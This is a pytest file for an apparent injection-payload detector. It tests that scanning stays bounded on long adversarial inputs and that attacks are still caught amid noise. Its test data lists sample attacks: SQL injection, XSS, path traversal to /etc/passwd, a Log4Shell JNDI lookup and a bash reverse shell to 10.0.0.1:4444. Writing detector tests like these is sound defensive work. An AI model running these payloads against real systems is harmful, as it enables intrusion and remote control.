"""How much is looked at grows no faster than a text does, whatever it is made of."""

from collections import Counter
from itertools import permutations

import pytest

from garrison.core.document import TextDocument
from garrison.payload import places
from garrison.payload.decoding import decode
from garrison.payload.gather import body_texts
from garrison.payload.judge import CROWDED, NOTHING_SPARED, judge, judge_besides
from garrison.payload.places import Form, signs_in, signs_of
from garrison.payload.purse import Purse
from garrison.payload.scanner import Scanner
from garrison.payload.sign import Sign
from garrison.payload.sql_letters import letters

SHAPES = (
    "'",
    "' or ",
    "<a ",
    "../",
    "%25",
    "{{",
    "&lt;",
    "\\u003c",
    "((((",
    "a'b ",
    "select ",
    "; ",
    "1,",
    "$(",
    "/*",
    "\n",
    "A",
    "'or'",
    "*)(",
    "${",
    "| sh ",
    "<a onload=x ",
    "http://127.0.0.1 ",
)
SIZE = 64_000
ATTACKS = (
    "1' UNION SELECT name, 2 FROM users--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "${jndi:ldap://a.example/b}",
)


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> Counter[str]:
    """How often each grammar is asked, from now on."""
    counts: Counter[str] = Counter()
    monkeypatch.setattr(places, "OWNED", tuple((kind, _counted(sign, counts)) for kind, sign in places.OWNED))
    return counts


@pytest.fixture
def told(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many matches each pass tells of, from now on."""
    counts: list[int] = []
    scan = Scanner.scan

    def counting(self: Scanner, data: bytes, most: int, *, is_plain: bool | None = None) -> list[tuple[int, int]]:
        found = scan(self, data, most, is_plain=is_plain)
        counts.append(len(found))
        return found

    monkeypatch.setattr(Scanner, "scan", counting)
    return counts


@pytest.mark.parametrize("shape", SHAPES)
def test_what_is_asked_and_told_is_bounded(shape: str, asked: Counter[str], told: list[int]) -> None:
    text = shape * (SIZE // len(shape))
    signs_in([Form(0, text, (), Purse(text))])
    assert asked.total() <= 64 + SIZE // 160
    assert sum(told) <= 3 * (64 + SIZE // 16)


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_noise_hides_nothing(shape: str, attack: str) -> None:
    for noise in (shape, f"{shape}lorem ipsum {shape}", shape + "dolor sit amet, " * 8):
        assert judge([noise * (8192 // len(noise)) + "\n" + attack]), noise


@pytest.mark.parametrize("shape", SHAPES)
def test_no_class_hides_another(shape: str) -> None:
    kinds = {attack: judge([attack])[0].kind for attack in ATTACKS}
    for first, second in permutations(ATTACKS, 2):
        text = f"{first}\n{shape * 40}\n{second}"
        besides = {kind: signs_of(kind) for kind in kinds.values() if kind != kinds[second]}
        found = judge_besides(["plain", text, "plain"], NOTHING_SPARED, besides)
        assert {each.index for each in found} == {1}
        assert any(each.kind not in besides or CROWDED in each.signs for each in found), text
        assert len({each.kind for each in found}) == len(found) <= len(besides) + 1


def test_crowded_texts_are_told_from_their_neighbours() -> None:
    crowd = "' or " * 2000
    found = judge(["plain", crowd, "Grace O'Malley", "<script>alert(1)</script>", crowd])
    assert [each.index for each in found] == [1, 3, 4]
    assert ["crowded" in each.signs for each in found] == [True, False, True]


def _counted(sign: Sign, asked: Counter[str]) -> Sign:
    confirm = sign.confirm
    if confirm is None:
        return sign

    def counting(text: str, place: int) -> bool:
        asked[sign.name] += 1
        return confirm(text, place)

    return Sign(sign.name, sign.pattern, sign.weight, counting)


@pytest.mark.parametrize("shape", SHAPES)
def test_a_line_of_letters_is_no_longer_than_its_text(shape: str) -> None:
    text = shape * 500
    assert len(letters(text)) <= len(text)


@pytest.mark.parametrize("shape", SHAPES)
def test_where_a_text_stands_among_others_changes_nothing(shape: str) -> None:
    text = shape * 40 + "<script>alert(1)</script>"
    (alone,) = judge([text])
    (among,) = judge(["before it", text, "after it"])
    assert among.index == 1
    assert (alone.kind, alone.signs, alone.place) == (among.kind, among.signs, among.place)


LONG = 1 << 18


@pytest.mark.parametrize(
    "shape",
    ["+", "\0", "%", "&", "\\", "+A", "&#", "%u", "\\u", "0x", "A", "=", "&lt", "&lt;", "%25", "\uff1c", "\\\\", "+AA"],
)
def test_decoding_ends_however_long_a_run_is(shape: str) -> None:
    """What looks back at each character of a run would not come to an end here."""
    text = "-" + shape * (LONG // len(shape)) + "-"
    assert all(len(form.text) <= 4 * len(text) for form in decode(text))


@pytest.mark.parametrize("shape", [" ", ">", '="', "='", "= ", "> ", "<"])
def test_marked_up_texts_are_read_to_their_end(shape: str) -> None:
    text = "<a>" + shape * (LONG // len(shape))
    places = body_texts(TextDocument(text))
    assert sum(len(place[1]) for place in places) <= 2 * len(text)


def test_values_of_marked_up_texts_stand_for_themselves() -> None:
    places = body_texts(TextDocument("<a b=\"some value\" c='another one'>\n inner text <d>  more inner  </d></a>"))
    assert [text for _, text in places[1:]] == ["some value", "another one", "inner text", "more inner"]
